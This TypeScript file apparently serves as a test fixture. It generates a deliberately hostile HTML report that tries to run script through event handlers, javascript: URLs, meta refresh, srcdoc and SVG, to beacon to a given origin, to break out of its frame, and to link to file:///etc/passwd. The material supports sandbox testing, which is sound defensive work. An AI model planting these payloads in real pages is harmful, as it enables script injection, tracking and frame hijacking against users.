/**
 * A report that tries all that a page can try: to run, to report that it is read, to leave, to take over. `to` is the
 * origin that it reports to.
 */
export function hostilePage(to: string): string {
  const say = (what: string): string => `${to}/${what}`
  const run = (how: string): string =>
    `try { top.hacked = '${how}' } catch {} parent.postMessage('hacked by ${how}', '*'); document.documentElement.dataset.ran = '${how}'; fetch('${say(how)}')`
  return `<!doctype html>
<html manifest="${say('manifest')}" onload="${run('onload-html')}">
<head>
<base href="${say('base')}/" target="_top">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="refresh" content="0;url=${say('refresh')}">
<meta http-equiv="refresh" content="1;url=javascript:${run('refresh-script')}">
<meta http-equiv="x-dns-prefetch-control" content="on">
<title>HACKED</title>
<link rel="preconnect" href="${to}" crossorigin>
<link rel="preconnect" href="${to}">
<link rel="dns-prefetch" href="${to}">
<link rel="prefetch" href="${say('prefetch')}">
<link rel="prerender" href="${say('prerender')}">
<link rel="preload" as="image" href="${say('preload')}">
<link rel="modulepreload" href="${say('modulepreload')}">
<link rel="stylesheet" href="${say('stylesheet')}">
<link rel="icon" href="${say('icon')}">
<link rel="manifest" href="${say('webmanifest')}">
<style>
@import url("${say('import')}");
@font-face { font-family: reported; src: url("${say('font')}") }
body { font-family: reported; background: url("${say('background')}"); cursor: url("${say('cursor')}"), auto; min-height: 1200px }
h1::after { content: url("${say('content')}") }
li { list-style-image: url("${say('list')}") }
</style>
<script>${run('script')}</script>
<script src="${say('script-src')}"></script>
<script type="module">import('${say('module')}')</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${say('speculation')}"]}]}</script>
</head>
<body onload="${run('onload')}" background="${say('body-background')}">
<h1>Hostile report</h1>
<ul><li>A list</ul>
<img src="${say('img')}" srcset="${say('srcset')} 2x" onerror="${run('onerror')}">
<img src="data:image/png;base64,AA" onerror="${run('onerror-data')}">
<picture><source srcset="${say('picture')}"><img src="${say('picture-img')}"></picture>
<video src="${say('video')}" poster="${say('poster')}" autoplay></video>
<audio src="${say('audio')}" autoplay></audio>
<iframe src="${say('iframe')}"></iframe>
<iframe srcdoc="<script>${run('srcdoc').replaceAll("'", '&#39;')}</script>"></iframe>
<iframe src="javascript:${run('iframe-script')}"></iframe>
<iframe src="app://station/index.html"></iframe>
<object data="${say('object')}"></object>
<embed src="${say('embed')}">
<svg width="20" height="20" onload="${run('svg-onload')}"><script>${run('svg-script')}</script><image href="${say('svg-image')}" width="9" height="9"/><use href="${say('svg-use')}#x"/><a href="${say('svg-link')}"><text y="12">svg</text></a></svg>
<math><mtext><a href="${say('math-link')}">math</a></mtext></math>
<details open ontoggle="${run('ontoggle')}"><summary>more</summary>text</details>
<form action="${say('form')}" method="post" target="_top"><input type="image" src="${say('input-image')}" alt="image"><input name="who" value="patient"><button autofocus onfocus="${run('onfocus')}">Send</button></form>
<form action="javascript:${run('form-script')}"><button formaction="${say('formaction')}" formtarget="_blank">Go</button></form>
<p>
<a href="${say('link')}" target="_self">self</a>
<a href="${say('top')}" target="_top">top</a>
<a href="${say('parent')}" target="_parent">parent</a>
<a href="${say('blank')}" target="_blank" rel="opener">blank</a>
<a href="${say('named')}" target="elsewhere">named</a>
<a href="#here" ping="${say('ping')}">ping</a>
<a href="${say('download')}" download="report.exe">download</a>
<a href="javascript:${run('link-script')}">script</a>
<a href="data:text/html,<script>1</script>">data</a>
<a href="app://station/index.html" target="_top">app</a>
<a href="file:///etc/passwd">file</a>
<a href="mailto:person@service.example">mail</a>
</p>
<template><img src="${say('template')}"></template>
<noscript><img src="${say('noscript')}"></noscript>
<p id="here" style="background-image: url('${say('inline-style')}')">The end of the hostile report</p>
</body></html>`
}
